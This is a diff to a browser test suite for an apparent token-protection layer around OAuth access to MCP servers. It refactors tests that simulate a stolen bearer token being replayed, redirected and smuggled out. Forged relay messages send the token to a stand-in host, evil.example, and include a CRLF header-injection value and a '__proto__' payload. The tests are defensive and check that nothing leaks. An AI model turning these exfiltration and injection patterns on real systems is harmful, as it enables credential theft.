@@ -8,6 +8,7 @@ import { chooseIn } from './support/menu.ts';
 import { probe } from './support/probe.ts';
 import { activityCodes } from './support/storage.ts';
 import { sweep } from './support/sweep.ts';
+import { createSwitch } from './support/switched.ts';
 import {
   call,
   callAnew,
@@ -17,6 +18,7 @@ import {
   openAgent,
   openPopup,
   sessionsIn,
+  shareScene,
   signedIn,
   signIn,
   signInByRedirect,
@@ -62,8 +64,8 @@ test('the same sweep finds the token of an agent that is not protected', async (
 });
 
 /** Signed in on a protected site; the handles are what a thief would take away. */
-async function robbed(world: World) {
-  const scene = await signedIn(world);
+async function robbed(world: World, servers: Parameters<typeof signedIn>[1] = {}) {
+  const scene = await signedIn(world, servers);
   const tokens = await scene.page.evaluate(() => window.agent.tokens('v2'));
   return { ...scene, access: tokens.access_token as string, refresh: tokens.refresh_token as string };
 }
@@ -87,10 +89,14 @@ const post = (page: Page, url: string, authorization: string) =>
   );
 
 test.describe('a stolen handle', () => {
-  test('is refused from another protected origin, from an unprotected one, and in frames of the agent’s tab', async ({
+  const onMcp = createSwitch();
+  const scene = shareScene(async (world) => ({
     world,
-  }) => {
-    const { auth, mcp, browser, page: own, access, refresh } = await robbed(world);
+    ...(await robbed(world, { mcp: { intercept: onMcp.intercept } })),
+  }));
+
+  test('is refused from another protected origin, from an unprotected one, and in frames of the agent’s tab', async () => {
+    const { world, auth, mcp, browser, page: own, access, refresh } = scene();
     const neighbour = await world.agent('neighbour');
     await world.protect(neighbour, [auth, mcp]);
     const stranger = await world.agent('stranger');
@@ -167,8 +173,8 @@ test.describe('a stolen handle', () => {
     });
   });
 
-  test('gets its own page no proof for another place: the token goes nowhere else', async ({ world }) => {
-    const { agent, auth, mcp, browser, page, access } = await robbed(world);
+  test('gets its own page no proof for another place: the token goes nowhere else', async () => {
+    const { world, agent, auth, mcp, browser, page, access } = scene();
     await declineAll(browser, agent.origin);
     const seen: string[] = [];
     const evil = await world.site('evil', (request, response) => {
@@ -197,9 +203,10 @@ test.describe('a stolen handle', () => {
     expect(seen).toEqual([]);
   });
 
-  test('does not follow a redirect to another origin', async ({ world }) => {
+  test('does not follow a redirect to another origin', async () => {
+    const { world, agent, auth, mcp, page, access } = scene();
     const seen: string[] = [];
-    const evil = await world.site('evil', (request, response) => {
+    const evil = await world.site('caught', (request, response) => {
       seen.push(request.rawHeaders.join('\n'));
       const headers = {
         'access-control-allow-origin': '*',
@@ -207,26 +214,112 @@ test.describe('a stolen handle', () => {
       };
       response.writeHead(200, headers).end();
     });
-    let redirect = false;
-    const { auth, mcp } = await world.servers({
-      mcp: {
-        intercept: async (request, response) => {
-          if (!redirect || request.method === 'OPTIONS' || request.url !== '/mcp') return false;
-          response.writeHead(307, { location: `${evil.origin}/caught`, 'access-control-allow-origin': '*' }).end();
-          return true;
-        },
-      },
+    await world.protect(agent, [evil]);
+    onMcp.set((request, response) => {
+      if (request.method === 'OPTIONS' || request.url !== '/mcp') return false;
+      response.writeHead(307, { location: `${evil.origin}/caught`, 'access-control-allow-origin': '*' }).end();
+      return true;
     });
-    const agent = await world.agent();
-    const browser = await world.protect(agent, [auth, mcp, evil]);
-    const page = await openAgent(browser, agent);
-    await signIn(page, { sdk: 'v2', resource: mcp.resource });
-    const { access_token } = await page.evaluate(() => window.agent.tokens('v2'));
-    redirect = true;
-    expect(await post(page, mcp.resource, `Bearer ${access_token}`)).toBe(200);
+    expect(await post(page, mcp.resource, `Bearer ${access}`)).toBe(200);
+    onMcp.set(undefined);
     expect(seen.length).toBeGreaterThan(0);
     expectNoSecret(seen.join('\n'), auth);
     expect(seen.join('\n')).not.toMatch(/^authorization$/im);
+  });
+
+  test('what an allowed server’s own pages do at a resource is noted by nobody', async () => {
+    const { world, mcp, agent, browser, page } = scene();
+    const server = await world.site('server', (_, response) => void response.end('a page of a server'));
+    await world.protect(agent, [server]);
+    const other = await browser.context.newPage();
+    await other.goto(server.origin);
+    const before = mcp.log.length;
+    for (const from of [other, page])
+      await from.evaluate(
+        (url) => fetch(url, { headers: { authorization: 'Basic eDp5' } }).catch(() => {}),
+        mcp.resource,
+      );
+    expect(
+      mcp.log
+        .slice(before)
+        .filter(({ method }) => method === 'GET')
+        .map(({ origin }) => origin),
+    ).toEqual([server.origin, agent.origin]);
+    await expect.poll(() => activityCodes(browser, agent.origin)).toContain('Basic');
+    expect(await activityCodes(browser, server.origin)).toEqual([]);
+  });
+
+  test('frames, workers and beacons of the page, and messages that it forges, get no token out, and none accepted without a proof', async () => {
+    const { auth, mcp, page, access } = scene();
+    const before = mcp.log.length;
+    const results = await page.evaluate(
+      async ([url, handle]) => {
+        const headers = { authorization: `Bearer ${handle}`, 'content-type': 'application/json' };
+        const body = '{"jsonrpc":"2.0","id":1,"method":"tools/list"}';
+        const status = (response: Response) => response.status;
+        const frame = document.createElement('iframe');
+        document.body.append(frame);
+        // The frame's realm, before any content script may have run in it.
+        const fromFrame = frame.contentWindow?.fetch(url, { method: 'POST', headers, body }).then(status, () => 0);
+        const code = `onmessage = ({ data }) => fetch(...data).then((r) => postMessage(r.status), () => postMessage(0))`;
+        const worker = new Worker(URL.createObjectURL(new Blob([code])));
+        const fromWorker = new Promise<number>((resolve) => {
+          worker.onmessage = ({ data }) => resolve(data);
+          worker.postMessage([url, { method: 'POST', headers, body }]);
+        });
+        navigator.sendBeacon(url, body);
+        return Promise.all([fromFrame, fromWorker]);
+      },
+      [mcp.resource, access] as const,
+    );
+    // A frame that is already wrapped, and a worker, may use the page's own session; nothing gets through without a proof.
+    const arrived = mcp.log.slice(before).filter(({ method }) => method === 'POST');
+    expect(arrived.every(({ status, proofs }) => status === 401 || proofs === 1)).toBe(true);
+    expect(results[1]).not.toBe(401);
+    expectNoSecret(await sweep(page), auth);
+    await connect(page, { sdk: 'v2', resource: mcp.resource });
+    await call(page);
+
+    await test.step('forged messages to the relay get no answer, or the one that changes nothing', async () => {
+      const answers = await page.evaluate(
+        async ([resource, handle, tokenEndpoint]) => {
+          const forged = [
+            { kind: 'prove', token: handle, method: 'POST', url: 'https://evil.example/' },
+            { kind: 'prove', token: handle, method: 'POST', url: `${new URL(resource).origin}/other` },
+            { kind: 'prove', token: `hf_${'a'.repeat(43)}`, method: 'POST', url: resource },
+            { kind: 'prove', token: handle, method: 'POST\r\nX: 1', url: resource },
+            { kind: 'form', url: tokenEndpoint, headers: 'none', body: 'grant_type=refresh_token' },
+            { kind: 'form', url: 'https://evil.example/', headers: [], body: `grant_type=x&token=${handle}` },
+            { kind: 'revoke', session: 'x' },
+            { kind: 'protect', origin: 'https://evil.example' },
+            { kind: '__proto__' },
+            null,
+            'x'.repeat(1_000_000),
+          ];
+          const speak = async (scope: Window & typeof globalThis): Promise<unknown[]> => {
+            const { port1, port2 } = new MessageChannel();
+            const heard: unknown[] = [];
+            port1.onmessage = ({ data }) => heard.push(data);
+            scope.dispatchEvent(new scope.MessageEvent('holdfast:given', { ports: [port2] }));
+            scope.dispatchEvent(new scope.Event('holdfast:wanted'));
+            for (const [index, body] of forged.entries())
+              port1.postMessage({ id: index + 1000, body, origin: 'https://victim.example' });
+            port1.postMessage({ id: {}, body: forged[0] });
+            port1.postMessage('no envelope');
+            // A request of the wrapper's own goes the same way, behind them.
+            await scope.fetch(resource, { method: 'POST', headers: { authorization: `Bearer ${handle}` }, body: '{}' });
+            return heard;
+          };
+          const frame = document.createElement('iframe');
+          document.body.append(frame);
+          const inFrame = await speak(frame.contentWindow as Window & typeof globalThis);
+          return [...(await speak(window)), ...inFrame];
+        },
+        [mcp.resource, access, `${auth.origin}/token`] as const,
+      );
+      for (const answer of answers) expect(answer).toMatchObject({ body: { kind: 'pass' } });
+      await call(page);
+    });
   });
 });
 
@@ -348,103 +441,6 @@ test('no site but the agent, and no address but the authorization endpoint itsel
     await expect(page).toHaveTitle('seen');
   }
   expect(seen).toEqual(['/auth-evil?client_id=x', '/auth/1?client_id=x', '/AUTH?client_id=x']);
-});
-
-test('what an allowed server’s own pages do at a resource is noted by nobody', async ({ world }) => {
-  const { mcp, agent, browser, page } = await robbed(world);
-  const server = await world.site('server', (_, response) => void response.end('a page of a server'));
-  await world.protect(agent, [server]);
-  const other = await browser.context.newPage();
-  await other.goto(server.origin);
-  const before = mcp.log.length;
-  for (const from of [other, page])
-    await from.evaluate(
-      (url) => fetch(url, { headers: { authorization: 'Basic eDp5' } }).catch(() => {}),
-      mcp.resource,
-    );
-  expect(
-    mcp.log
-      .slice(before)
-      .filter(({ method }) => method === 'GET')
-      .map(({ origin }) => origin),
-  ).toEqual([server.origin, agent.origin]);
-  await expect.poll(() => activityCodes(browser, agent.origin)).toContain('Basic');
-  expect(await activityCodes(browser, server.origin)).toEqual([]);
-});
-
-test('frames, workers and beacons of the page, and messages that it forges, get no token out, and none accepted without a proof', async ({
-  world,
-}) => {
-  const { auth, mcp, page, access } = await robbed(world);
-  const before = mcp.log.length;
-  const results = await page.evaluate(
-    async ([url, handle]) => {
-      const headers = { authorization: `Bearer ${handle}`, 'content-type': 'application/json' };
-      const body = '{"jsonrpc":"2.0","id":1,"method":"tools/list"}';
-      const status = (response: Response) => response.status;
-      const frame = document.createElement('iframe');
-      document.body.append(frame);
-      // The frame's realm, before any content script may have run in it.
-      const fromFrame = frame.contentWindow?.fetch(url, { method: 'POST', headers, body }).then(status, () => 0);
-      const code = `onmessage = ({ data }) => fetch(...data).then((r) => postMessage(r.status), () => postMessage(0))`;
-      const worker = new Worker(URL.createObjectURL(new Blob([code])));
-      const fromWorker = new Promise<number>((resolve) => {
-        worker.onmessage = ({ data }) => resolve(data);
-        worker.postMessage([url, { method: 'POST', headers, body }]);
-      });
-      navigator.sendBeacon(url, body);
-      return Promise.all([fromFrame, fromWorker]);
-    },
-    [mcp.resource, access] as const,
-  );
-  // A frame that is already wrapped, and a worker, may use the page's own session; nothing gets through without a proof.
-  const arrived = mcp.log.slice(before).filter(({ method }) => method === 'POST');
-  expect(arrived.every(({ status, proofs }) => status === 401 || proofs === 1)).toBe(true);
-  expect(results[1]).not.toBe(401);
-  expectNoSecret(await sweep(page), auth);
-  await connect(page, { sdk: 'v2', resource: mcp.resource });
-  await call(page);
-
-  await test.step('forged messages to the relay get no answer, or the one that changes nothing', async () => {
-    const answers = await page.evaluate(
-      async ([resource, handle, tokenEndpoint]) => {
-        const forged = [
-          { kind: 'prove', token: handle, method: 'POST', url: 'https://evil.example/' },
-          { kind: 'prove', token: handle, method: 'POST', url: `${new URL(resource).origin}/other` },
-          { kind: 'prove', token: `hf_${'a'.repeat(43)}`, method: 'POST', url: resource },
-          { kind: 'prove', token: handle, method: 'POST\r\nX: 1', url: resource },
-          { kind: 'form', url: tokenEndpoint, headers: 'none', body: 'grant_type=refresh_token' },
-          { kind: 'form', url: 'https://evil.example/', headers: [], body: `grant_type=x&token=${handle}` },
-          { kind: 'revoke', session: 'x' },
-          { kind: 'protect', origin: 'https://evil.example' },
-          { kind: '__proto__' },
-          null,
-          'x'.repeat(1_000_000),
-        ];
-        const speak = async (scope: Window & typeof globalThis): Promise<unknown[]> => {
-          const { port1, port2 } = new MessageChannel();
-          const heard: unknown[] = [];
-          port1.onmessage = ({ data }) => heard.push(data);
-          scope.dispatchEvent(new scope.MessageEvent('holdfast:given', { ports: [port2] }));
-          scope.dispatchEvent(new scope.Event('holdfast:wanted'));
-          for (const [index, body] of forged.entries())
-            port1.postMessage({ id: index + 1000, body, origin: 'https://victim.example' });
-          port1.postMessage({ id: {}, body: forged[0] });
-          port1.postMessage('no envelope');
-          // A request of the wrapper's own goes the same way, behind them.
-          await scope.fetch(resource, { method: 'POST', headers: { authorization: `Bearer ${handle}` }, body: '{}' });
-          return heard;
-        };
-        const frame = document.createElement('iframe');
-        document.body.append(frame);
-        const inFrame = await speak(frame.contentWindow as Window & typeof globalThis);
-        return [...(await speak(window)), ...inFrame];
-      },
-      [mcp.resource, access, `${auth.origin}/token`] as const,
-    );
-    for (const answer of answers) expect(answer).toMatchObject({ body: { kind: 'pass' } });
-    await call(page);
-  });
 });
 
 test('a page cannot tell by its resources that Holdfast is there', async ({ world }) => {
